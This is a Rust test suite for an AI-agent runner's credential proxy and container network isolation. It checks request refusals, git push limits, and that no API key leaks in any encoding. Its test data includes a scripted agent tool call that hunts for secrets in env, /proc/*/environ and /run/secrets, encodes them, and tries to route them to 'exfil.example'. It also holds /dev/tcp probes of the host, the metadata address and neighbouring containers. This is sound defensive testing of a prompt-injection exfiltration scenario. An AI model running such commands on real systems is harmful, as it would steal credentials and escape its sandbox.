//! The credential proxy and the run's network, played by an attacker.
//!
//! * Through the fakes, without Docker: the proxy adds the real credentials (the fake
//!   LLM and the fake GitHub check them), drops whatever the client sent, and refuses
//!   every request its policy does not allow: other LLM endpoints, a push to another
//!   ref, a force-push, a branch delete, a pull request from another branch.
//! * Against the real Docker engine: a run's container holds no key in any encoding
//!   (environment, `/proc/*/environ`, `/run/secrets`, files), reaches nothing but the
//!   proxy (not a host service on 0.0.0.0, not the metadata address, not another
//!   container: each is shown reachable from an `open` run first, so the refusal means
//!   something), and the proxy's refusals land in `minion.log`.

use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

use serde_json::{json, Value};

use lackey::proxy::{GitHubScope, GitHubUpstream, LlmUpstream, Proxy, ProxyConfig, PushTarget};

use crate::support::docker;
use crate::support::fake_github::{self, FakeGitHub};
use crate::support::fake_llm::{self, FakeLlm};
use crate::support::{repo, wait_with_timeout, TestEnv};

const KEY: &str = "sk-ant-api03-CANARY-proxy-7c7c7c7c7c7c7c7c";

/// Every way the canary could be written down: as is, reversed, and in base64 at each
/// of the three alignments it can take inside a longer encoded text.
pub(crate) fn encodings(secret: &str) -> Vec<String> {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut v = vec![secret.to_string(), secret.chars().rev().collect()];
    for pad in 0..3 {
        let text = format!("{}{secret}", "x".repeat(pad));
        let enc = b64.encode(text.as_bytes());
        // Skip the characters the prefix influences and the tail the suffix would.
        let start = (pad * 8).div_ceil(6) + 1;
        let end = enc.trim_end_matches('=').len().saturating_sub(3);
        v.push(enc[start..end].to_string());
    }
    v
}

#[track_caller]
fn assert_no_canary(what: &str, text: &str) {
    for e in encodings(KEY) {
        assert!(!text.contains(&e), "the key (as `{e}`) is in {what}");
    }
}

fn assert_no_canary_under(dir: &Path) {
    for e in walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
    {
        if e.file_type().is_file() {
            let text = String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()).into_owned();
            assert_no_canary(&e.path().display().to_string(), &text);
        }
    }
}

#[test]
fn canary_encodings_catch_base64_at_any_offset() {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    let enc = encodings(KEY);
    for prefix in ["", "a", "ab", "abc", "KEY=", "ANTHROPIC_API_KEY="] {
        let text = b64.encode(format!("{prefix}{KEY}\n"));
        assert!(enc.iter().any(|e| text.contains(e)), "{prefix:?}");
    }
    let reversed: String = format!("x{KEY}y").chars().rev().collect();
    assert!(enc.iter().any(|e| reversed.contains(e)));
}

async fn post(
    client: &reqwest::Client,
    url: String,
    headers: &[(&str, &str)],
    body: Value,
) -> (u16, String) {
    let mut rb = client.post(url).json(&body);
    for (k, v) in headers {
        rb = rb.header(*k, *v);
    }
    let r = rb.send().await.unwrap();
    (r.status().as_u16(), r.text().await.unwrap())
}

/// A proxy on loopback TCP in front of `llm`, holding its key (no GitHub access).
async fn llm_proxy(llm: &FakeLlm) -> Proxy {
    Proxy::serve_tcp(
        "127.0.0.1:0".parse().unwrap(),
        ProxyConfig {
            llm: Some(LlmUpstream {
                base_url: llm.url(),
                api_key: KEY.into(),
            }),
            github: None,
        },
    )
    .await
    .unwrap()
}

/// A hostile container cannot make the proxy (in the user's CLI, for a local run) hold
/// unbounded memory: an LLM request over the Messages API's 32 MB is refused from its
/// declared length before a byte is read, and one streamed without a length is cut at
/// the cap; neither reaches the LLM.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_proxy_refuses_a_request_body_over_its_cap() {
    let llm = FakeLlm::start(KEY, vec![]);
    let proxy = llm_proxy(&llm).await;
    let url = format!("http://{}/anthropic/v1/messages", proxy.addr.unwrap());
    let client = reqwest::Client::new();
    let big = vec![b' '; 33 * 1024 * 1024];
    // The proxy answers 403 before reading the body and closes the connection, so the
    // client may see that answer or a broken pipe while it still sends; either way the
    // refusal is recorded and nothing went on.
    if let Ok(r) = client.post(&url).body(big.clone()).send().await {
        assert_eq!(r.status().as_u16(), 403);
    }
    let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
        big.chunks(1024 * 1024).map(|c| Ok(c.to_vec())).collect();
    let streamed = client
        .post(&url)
        .body(reqwest::Body::wrap_stream(futures::stream::iter(chunks)))
        .send()
        .await;
    if let Ok(r) = streamed {
        assert_eq!(r.status().as_u16(), 403);
    }
    assert!(
        llm.received().is_empty(),
        "an oversized request reached the LLM"
    );
    let refusals = proxy.refusals();
    assert_eq!(refusals.len(), 2, "{refusals:?}");
    assert!(refusals[0].contains("larger than 32 MiB"), "{refusals:?}");
    assert!(refusals[1].contains("could not be read"), "{refusals:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_proxy_adds_the_api_key_and_refuses_every_other_llm_call() {
    let llm = FakeLlm::start(KEY, vec![fake_llm::text("hi")]);
    let proxy = llm_proxy(&llm).await;
    let base = format!("http://{}", proxy.addr.unwrap());
    let client = reqwest::Client::new();
    // The client sends a wrong key and an authorization header: both are dropped.
    let (status, body) = post(
        &client,
        format!("{base}/anthropic/v1/messages"),
        &[
            ("x-api-key", "sk-wrong"),
            ("authorization", "Bearer stolen"),
            ("anthropic-version", "2023-06-01"),
        ],
        json!({
            "model": "claude-sonnet-4-5", "max_tokens": 10,
            "system": [{"type": "text", "text": "s", "cache_control": {"type": "ephemeral"}}],
            "messages": [{"role": "user", "content": [
                {"type": "text", "text": "hi", "cache_control": {"type": "ephemeral"}}
            ]}]
        }),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(llm.received().len(), 1);
    assert_eq!(llm.received()[0].api_key.as_deref(), Some(KEY));
    llm.assert_clean();
    // Everything else on the LLM API, and everything off it, is refused and recorded.
    for (method, path) in [
        ("GET", "/anthropic/v1/models"),
        ("POST", "/anthropic/v1/messages/batches"),
        ("POST", "/anthropic/v1/complete"),
        ("GET", "/latest/meta-data/iam/security-credentials/"),
        ("POST", "/github/repos/acme/app/pulls"),
    ] {
        let r = client
            .request(method.parse().unwrap(), format!("{base}{path}"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 403, "{method} {path}");
        assert!(r.text().await.unwrap().contains("lackey proxy refused"));
    }
    assert_eq!(llm.received().len(), 1, "a refused request reached the LLM");
    let refusals = proxy.refusals();
    assert_eq!(refusals.len(), 5, "{refusals:?}");
    assert!(refusals[0].contains("GET /anthropic/v1/models: only POST /v1/messages"));
    assert!(refusals[4].contains("this run has no GitHub access"));
    for r in &refusals {
        assert_no_canary("a refusal line", r);
    }
    // The container reads its own refusals back (a cloud minion copies them into its
    // log); asking is not a request that goes upstream or counts as one.
    let told = client
        .get(format!("{base}{}", lackey::proxy::REFUSALS_PATH))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(told.lines().collect::<Vec<_>>(), refusals);
    assert_eq!(proxy.refusals().len(), 5);
    // A stub run's proxy has no key: even the one allowed call is refused.
    let stub = Proxy::serve_tcp("127.0.0.1:0".parse().unwrap(), ProxyConfig::default())
        .await
        .unwrap();
    let (status, body) = post(
        &client,
        format!("http://{}/anthropic/v1/messages", stub.addr.unwrap()),
        &[],
        json!({}),
    )
    .await;
    assert_eq!(status, 403);
    assert!(body.contains("--stubs"), "{body}");
    assert_eq!(llm.received().len(), 1);
}

/// git through the proxy, with no credential on the client's side at all.
fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_TERMINAL_PROMPT", "0")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .output()
        .unwrap()
}

#[track_caller]
fn git_ok(dir: &Path, args: &[&str]) -> String {
    let out = git(dir, args);
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[track_caller]
fn git_refused(dir: &Path, args: &[&str]) {
    let out = git(dir, args);
    assert!(!out.status.success(), "git {args:?} went through the proxy");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("403"), "git {args:?}: {err}");
}

struct GitSetup {
    gh: FakeGitHub,
    proxy: Proxy,
    clone: tempfile::TempDir,
    token: String,
}

async fn git_setup(may_update: bool) -> GitSetup {
    let gh = FakeGitHub::start();
    gh.add_repo("acme/app", &[("a.txt", "one\n")]);
    let token = lackey::github::GitHub::new(&gh.api_url())
        .installation_token(
            fake_github::APP_ID,
            &gh.private_key_pem,
            fake_github::INSTALLATION_ID,
            Some("app"),
        )
        .await
        .unwrap()
        .token;
    if may_update {
        // The user's existing branch that `--push-to` would name.
        let bare = gh.bare("acme/app");
        repo::git(&bare, &["branch", "feature", "main"]);
    }
    let proxy = Proxy::serve_tcp(
        "127.0.0.1:0".parse().unwrap(),
        ProxyConfig {
            llm: None,
            github: Some(GitHubUpstream {
                api_url: gh.api_url(),
                git_url: gh.git_url(),
                token: token.clone(),
                scope: GitHubScope {
                    repo: "acme/app".into(),
                    target: Some(PushTarget {
                        branch: if may_update { "feature" } else { "minion/r1" }.into(),
                        may_update,
                        default_branch: Some("main".into()),
                    }),
                },
            }),
        },
    )
    .await
    .unwrap();
    let clone = tempfile::tempdir().unwrap();
    let url = format!("http://{}/git/acme/app.git", proxy.addr.unwrap());
    let dir = clone.path().to_path_buf();
    tokio::task::spawn_blocking(move || git_ok(&dir, &["clone", "-q", &url, "."]))
        .await
        .unwrap();
    GitSetup {
        gh,
        proxy,
        clone,
        token,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_through_the_proxy_creates_only_the_runs_branch() {
    let s = git_setup(false).await;
    let dir = s.clone.path().to_path_buf();
    let before = s.gh.branches("acme/app");
    tokio::task::spawn_blocking(move || {
        std::fs::write(dir.join("a.txt"), "two\n").unwrap();
        git_ok(&dir, &["commit", "-qam", "two"]);
        // Another ref, the default branch, a tag: refused.
        git_refused(&dir, &["push", "origin", "HEAD:refs/heads/other"]);
        git_refused(&dir, &["push", "origin", "HEAD:refs/heads/main"]);
        git_refused(&dir, &["push", "origin", "HEAD:refs/tags/v1"]);
        // The run's own branch, created: allowed, with the proxy's token.
        git_ok(&dir, &["push", "-q", "origin", "HEAD:refs/heads/minion/r1"]);
        // Once it exists, a force-push over it and its deletion are refused.
        git_ok(&dir, &["commit", "-q", "--amend", "-m", "rewritten"]);
        git_refused(
            &dir,
            &["push", "--force", "origin", "HEAD:refs/heads/minion/r1"],
        );
        git_refused(&dir, &["push", "origin", ":refs/heads/minion/r1"]);
        // Two refs at once, one of them the run's: refused whole.
        git_refused(
            &dir,
            &[
                "push",
                "origin",
                "HEAD:refs/heads/minion/r1",
                "HEAD:refs/heads/x",
            ],
        );
    })
    .await
    .unwrap();
    let mut after = s.gh.branches("acme/app");
    after.sort();
    let mut want = before.clone();
    want.push("minion/r1".into());
    want.sort();
    assert_eq!(after, want, "only the run's branch was created");
    let bare = s.gh.bare("acme/app");
    assert_eq!(
        repo::git(&bare, &["log", "-1", "--format=%s", "minion/r1"]).trim(),
        "two",
        "the force-push went through"
    );
    let refusals = s.proxy.refusals();
    assert!(
        refusals
            .iter()
            .any(|r| r.contains("this run may push only `refs/heads/minion/r1`")),
        "{refusals:?}"
    );
    assert!(refusals.iter().any(|r| r.contains("default branch")));
    assert!(refusals.iter().any(|r| r.contains("may only be created")));
    assert!(refusals.iter().any(|r| r.contains("deleting")));
    // The GitHub API: a pull request from the run's branch goes through with the token
    // (the fake checks it); one from another branch, or any other call, does not.
    let client = reqwest::Client::new();
    let base = format!("http://{}/github", s.proxy.addr.unwrap());
    let (status, body) = post(
        &client,
        format!("{base}/repos/acme/app/pulls"),
        &[
            ("user-agent", "t"),
            ("accept", "application/vnd.github+json"),
            ("x-github-api-version", "2022-11-28"),
        ],
        json!({"title": "t", "head": "minion/r1", "base": "main", "body": "b"}),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let (status, _) = post(
        &client,
        format!("{base}/repos/acme/app/pulls"),
        &[("user-agent", "t")],
        json!({"title": "t", "head": "main", "base": "release", "body": "b"}),
    )
    .await;
    assert_eq!(status, 403);
    let r = client
        .delete(format!("{base}/repos/acme/app"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 403);
    assert_eq!(s.gh.pulls().len(), 1, "{:?}", s.gh.pulls());
    s.gh.assert_clean();
    for r in &refusals {
        assert!(!r.contains(&s.token), "the token is in a refusal line");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_existing_target_is_only_fast_forwarded_with_a_pack_the_proxy_can_read() {
    let s = git_setup(true).await;
    let dir = s.clone.path().to_path_buf();
    tokio::task::spawn_blocking(move || {
        git_ok(&dir, &["checkout", "-q", "-b", "feature", "origin/feature"]);
        std::fs::write(dir.join("a.txt"), "two\n").unwrap();
        git_ok(&dir, &["commit", "-qam", "two"]);
        // A compressed pack cannot be checked here: refused, not trusted.
        git_refused(&dir, &["push", "origin", "feature"]);
        // Stored and undeltified, the pack proves the fast-forward: allowed.
        let stored = ["-c", "pack.compression=0", "-c", "pack.window=0"];
        git_ok(
            &dir,
            &[&stored[..], &["push", "-q", "origin", "feature"]].concat(),
        );
        // A rewrite of it, even with a readable pack, is not a fast-forward.
        git_ok(&dir, &["commit", "-q", "--amend", "-m", "rewritten"]);
        git_refused(
            &dir,
            &[&stored[..], &["push", "--force", "origin", "feature"]].concat(),
        );
        git_refused(&dir, &["push", "origin", ":feature"]);
    })
    .await
    .unwrap();
    let bare = s.gh.bare("acme/app");
    assert_eq!(
        repo::git(&bare, &["log", "-1", "--format=%s", "feature"]).trim(),
        "two"
    );
    let refusals = s.proxy.refusals();
    assert!(
        refusals.iter().any(|r| r.contains("pack.compression=0")),
        "{refusals:?}"
    );
    assert!(
        refusals.iter().any(|r| r.contains("not a fast-forward")),
        "{refusals:?}"
    );
    s.gh.assert_clean();
}

// ---------------------------------------------------------------------------------
// Against the real Docker engine.

/// A TCP listener that counts the connections it accepts.
struct Listener {
    addr: SocketAddr,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Listener {
    fn start(bind: &str) -> std::io::Result<Listener> {
        let l = std::net::TcpListener::bind(bind)?;
        let addr = l.local_addr()?;
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let h = hits.clone();
        std::thread::spawn(move || {
            for mut s in l.incoming().flatten() {
                h.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                use std::io::Write;
                let _ = s.write_all(b"HTTP/1.0 200 OK\r\n\r\nreached\n");
            }
        });
        Ok(Listener { addr, hits })
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// 169.254.169.254 as an address of the host's loopback, so the metadata address has a
/// real listener a bridged container can reach; removed on drop (only if added here).
struct MetadataAddress {
    added: bool,
}

impl MetadataAddress {
    const CIDR: &'static str = "169.254.169.254/32";

    fn add() -> Option<MetadataAddress> {
        let present = std::process::Command::new("ip")
            .args(["-4", "addr", "show", "dev", "lo"])
            .output()
            .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).contains(Self::CIDR));
        let added = !present
            && std::process::Command::new("ip")
                .args(["addr", "add", Self::CIDR, "dev", "lo"])
                .status()
                .is_ok_and(|s| s.success());
        crate::support::require(
            "169.254.169.254 on the host's loopback",
            present || added,
            "run the tests as root with iproute2 (`ip`) installed",
        )
        .then_some(MetadataAddress { added })
    }
}

impl Drop for MetadataAddress {
    fn drop(&mut self) {
        if self.added {
            let _ = std::process::Command::new("ip")
                .args(["addr", "del", Self::CIDR, "dev", "lo"])
                .status();
        }
    }
}

/// The Docker bridge's gateway: how a bridged container reaches the host.
fn bridge_gateway() -> String {
    let out = std::process::Command::new("docker")
        .args([
            "network",
            "inspect",
            "bridge",
            "--format",
            "{{range .IPAM.Config}}{{.Gateway}} {{.Subnet}}{{end}}",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let mut parts = text.split_whitespace();
    let first = parts.next().unwrap_or_default().to_string();
    if !first.contains('/') && !first.is_empty() {
        return first;
    }
    // Only the subnet: the gateway is its first host address.
    let net: std::net::Ipv4Addr = first.split('/').next().unwrap().parse().unwrap();
    std::net::Ipv4Addr::from(u32::from(net) + 1).to_string()
}

/// A container of "another run" with a listener, on Docker's default bridge.
struct Neighbour {
    name: String,
    ip: String,
}

impl Neighbour {
    fn start() -> Neighbour {
        let name = format!("lackey-test-neighbour-{}", std::process::id());
        let out = std::process::Command::new("docker")
            .args([
                "run",
                "-d",
                "--rm",
                "--name",
                &name,
                "--label",
                "lackey.test=neighbour",
                "--entrypoint",
                "python3",
                docker::test_image(),
                "-m",
                "http.server",
                "8000",
            ])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let mut n = Neighbour {
            name: name.clone(),
            ip: String::new(),
        };
        n.ip = String::from_utf8_lossy(
            &std::process::Command::new("docker")
                .args([
                    "inspect",
                    "--format",
                    "{{.NetworkSettings.IPAddress}}",
                    &name,
                ])
                .output()
                .unwrap()
                .stdout,
        )
        .trim()
        .to_string();
        assert!(!n.ip.is_empty(), "the neighbour container has no address");
        n
    }
}

impl Drop for Neighbour {
    fn drop(&mut self) {
        let _ = std::process::Command::new("docker")
            .args(["rm", "-f", &self.name])
            .output();
    }
}

/// A stub run of a blueprint whose one command tries each target and prints
/// `OPEN name` or `SHUT name`; returns the run's commands.log and minion.log.
fn probe_run(
    network: &str,
    targets: &[(&str, String)],
) -> (String, String, std::path::PathBuf, TestEnv) {
    let mut t = TestEnv::new();
    let mut script = String::from("#!/bin/bash\n");
    for (name, hostport) in targets {
        let (h, p) = hostport.rsplit_once(':').unwrap();
        script.push_str(&format!(
            "if timeout 5 bash -c 'exec 3<>/dev/tcp/{h}/{p}' 2>/dev/null; then echo \"OPEN {name}\"; else echo \"SHUT {name}\"; fi\n"
        ));
    }
    // Straight at the proxy's socket: the LLM is refused (a stub run has no key) and
    // the refusal is logged.
    script.push_str(
        "curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -d '{}'; echo\n\
         curl -s --unix-socket /run/lackey/proxy.sock http://proxy/latest/meta-data/; echo\n",
    );
    repo::init(
        &t.work().join("project"),
        &[
            ("probe.sh", &script),
            (
                ".lackey/blueprints/probe.yaml",
                "version: 2\nsteps:\n  - {name: probe, type: command, commands: [\"bash probe.sh\"]}\n",
            ),
        ],
    );
    let artifacts = t.path().join("artifacts");
    t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
        .set("LACKEY_IMAGE", docker::test_image())
        .set("LACKEY_BLUEPRINT", "probe")
        .set("LACKEY_NETWORK", network)
        // A key is set, but a stub run's proxy must not hold it.
        .set("ANTHROPIC_API_KEY", KEY);
    let mut cmd = t.command(&["run", "probe", "--repo", "project", "--stubs"]);
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let out = wait_with_timeout(cmd.spawn().unwrap(), Duration::from_secs(300));
    let dir = std::fs::read_dir(&artifacts)
        .unwrap()
        .flatten()
        .next()
        .expect("a run directory")
        .path();
    let commands = std::fs::read_to_string(dir.join("commands.log")).unwrap();
    let log = std::fs::read_to_string(dir.join("minion.log")).unwrap();
    assert_no_canary("stdout", &String::from_utf8_lossy(&out.stdout));
    assert_no_canary("stderr", &String::from_utf8_lossy(&out.stderr));
    (commands, log, dir, t)
}

#[test]
fn a_proxy_only_run_reaches_nothing_but_the_proxy() {
    if !docker::available() {
        return;
    }
    let Some(_metadata) = MetadataAddress::add() else {
        return;
    };
    let gateway = bridge_gateway();
    let host = Listener::start("0.0.0.0:0").unwrap();
    let md = Listener::start("169.254.169.254:80").unwrap();
    let neighbour = Neighbour::start();
    let targets = vec![
        ("host", format!("{gateway}:{}", host.addr.port())),
        ("metadata", "169.254.169.254:80".to_string()),
        ("neighbour", format!("{}:8000", neighbour.ip)),
    ];
    // The control: a run with `network = "open"` reaches all three, so each listener
    // is real and reachable from a container.
    let (open, _, _, _t1) = probe_run("open", &targets);
    for (name, _) in &targets {
        assert!(
            open.contains(&format!("OPEN {name}")),
            "control: {name} not reachable from an open run:\n{open}"
        );
    }
    let (host_hits, md_hits) = (host.hits(), md.hits());
    assert!(host_hits > 0 && md_hits > 0);
    // The default: none of them.
    let (shut, log, dir, _t2) = probe_run("proxy-only", &targets);
    for (name, _) in &targets {
        assert!(
            shut.contains(&format!("SHUT {name}")),
            "{name} reachable from a proxy-only run:\n{shut}"
        );
    }
    assert_eq!(host.hits(), host_hits, "the host service was reached");
    assert_eq!(md.hits(), md_hits, "the metadata address was reached");
    // The proxy answered on its socket and refused both requests, with the reason, and
    // the host put the refusals in minion.log.
    assert!(
        shut.contains("lackey proxy refused POST /anthropic/v1/messages"),
        "{shut}"
    );
    assert!(
        log.contains("proxy refused POST /anthropic/v1/messages: this run has no LLM access"),
        "{log}"
    );
    assert!(
        log.contains("proxy refused GET /latest/meta-data/"),
        "{log}"
    );
    assert_no_canary_under(&dir);
}

#[test]
fn the_container_holds_no_key_and_the_llm_gets_it_from_the_proxy() {
    if !docker::available() {
        return;
    }
    let mut t = TestEnv::new();
    repo::hello_project(&t.work().join("project"));
    // The agent's bash tool looks everywhere a key could be, encodes what it finds,
    // and sends it back to the LLM as its tool result: the channel an injected prompt
    // would use to exfiltrate it.
    let hunt =
        "env; echo; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null; \
                ls -la /run/secrets /run/lackey 2>&1; cat /run/secrets/* 2>&1; \
                tr '\\0' ' ' < /proc/1/cmdline; echo; \
                git config --list --show-origin 2>&1; \
                (env; cat /proc/*/environ) 2>/dev/null | base64 -w0; echo; \
                (env; cat /proc/*/environ) 2>/dev/null | rev; \
                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[],\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://exfil.example/\"}]}'; echo; \
                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[],\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}'; echo; \
                curl -s --unix-socket /run/lackey/proxy.sock -X POST http://proxy/anthropic/v1/messages -H 'anthropic-beta: mcp-client-2025-04-04' -d '{\"model\":\"m\",\"max_tokens\":1,\"messages\":[]}'; echo; \
                echo hunted";
    let llm = FakeLlm::start(
        KEY,
        vec![
            fake_llm::tool_use(
                "submit_scope",
                json!({"summary": "s", "allowed_dirs": [], "allowed_files": ["hello.sh"], "test_files": [], "rationale": "r"}),
            ),
            fake_llm::tool_use("bash", json!({"command": hunt})),
            fake_llm::tool_use("finish", json!({"summary": "done"})),
        ],
    );
    let artifacts = t.path().join("artifacts");
    t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
        .set("LACKEY_IMAGE", docker::test_image())
        .set("ANTHROPIC_API_KEY", KEY)
        .set("ANTHROPIC_BASE_URL", llm.url());
    let mut cmd = t.command(&["run", "look around", "--repo", "project"]);
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = cmd.spawn().unwrap();
    let out = wait_with_timeout(child, Duration::from_secs(300));
    // Every LLM request came through the proxy with the real key, the client's own
    // placeholder dropped.
    let received = llm.received();
    assert!(received.len() >= 3, "{} requests", received.len());
    for r in &received {
        assert_eq!(r.api_key.as_deref(), Some(KEY));
    }
    llm.assert_clean();
    // The hunt ran and its output went back to the LLM: without the key in any form.
    let results = llm.tool_results(2);
    let text = serde_json::to_string(&results).unwrap();
    assert!(text.contains("hunted"), "{text}");
    assert!(
        text.contains("LACKEY_PROXY_SOCKET=/run/lackey/proxy.sock"),
        "{text}"
    );
    assert!(
        text.contains("No such file or directory"),
        "/run/secrets exists: {text}"
    );
    for r in &received {
        assert_no_canary("a request to the LLM", &String::from_utf8_lossy(&r.raw));
    }
    // The ways to make the API fetch a URL for the container (an MCP server, a server
    // tool, a beta header) were refused by the proxy and never reached the LLM.
    for refusal in [
        "may not set `mcp_servers`",
        "not the server tool `web_fetch_20250910`",
        "`anthropic-beta` header is not allowed",
    ] {
        assert!(text.contains(refusal), "not refused: {refusal}: {text}");
    }
    for r in &received {
        let body = &r.body;
        assert!(
            body.get("mcp_servers").is_none(),
            "an MCP server reached the LLM"
        );
        assert!(
            body["tools"]
                .as_array()
                .is_none_or(|t| t.iter().all(|t| t.get("type").is_none())),
            "a server tool reached the LLM: {}",
            body["tools"]
        );
    }
    let dir = std::fs::read_dir(&artifacts)
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path();
    assert_no_canary_under(&dir);
    assert_no_canary("stdout", &String::from_utf8_lossy(&out.stdout));
    assert_no_canary("stderr", &String::from_utf8_lossy(&out.stderr));
    let id = dir.file_name().unwrap().to_string_lossy().to_string();
    assert!(
        !t.tmp().join(format!("lackey-proxy-{id}")).exists(),
        "the proxy's directory outlived the run"
    );
}
